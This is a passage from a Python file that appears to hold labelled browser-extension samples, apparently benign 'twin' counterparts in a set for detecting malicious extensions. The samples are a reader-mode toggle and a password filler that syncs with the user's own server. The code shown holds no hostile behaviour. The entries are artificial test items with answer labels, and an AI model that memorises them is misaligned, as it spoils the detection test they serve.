            "cs.js": """
document.addEventListener('keydown', (e) => { if (e.altKey && e.key === 'r') toggle(); });
function toggle() {
  const article = document.querySelector('article'); if (!article) return;
  const box = document.createElement('div'); box.textContent = article.innerText; document.body.replaceChildren(box);
  chrome.runtime.sendMessage({ type: 'used', host: location.hostname });
}
""",
            "bg.js": "chrome.runtime.onMessage.addListener((m) => chrome.storage.local.set({ last: m.host }));\n",
        },
        "twin: listens for a shortcut",
    ),
    extension(
        "vault-fill", {"manifest_version": 3, "permissions": ["storage"], "host_permissions": ["<all_urls>"], "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["cs.js"]}]},
        {
            "cs.js": """
async function fill() {
  const pw = document.querySelector('input[type=password]'); if (!pw) return;
  const entry = await browser.runtime.sendMessage({ cmd: 'get', origin: location.origin });
  if (entry) { pw.value = entry.password; pw.dispatchEvent(new Event('input', { bubbles: true })); }
}
document.addEventListener('submit', (e) => { const p = e.target.querySelector('input[type=password]'); if (p) browser.runtime.sendMessage({ cmd: 'offer-save', origin: location.origin, password: p.value }); }, true);
fill();
""",
            "bg.js": """
const KEY = 'vault';
async function api(path, body) { const { server } = await browser.storage.local.get('server'); return (await fetch(`${server}${path}`, { method: 'POST', body: JSON.stringify(body) })).json(); }
browser.runtime.onMessage.addListener(async (m) => { const { [KEY]: v = {} } = await browser.storage.local.get(KEY); if (m.cmd === 'get') return v[m.origin]; if (m.cmd === 'sync') return api('/sync', { revision: m.revision }); });
""",
        },
        "twin: fills and keeps passwords, on the server of the user",
    ),
]  # fmt: skip
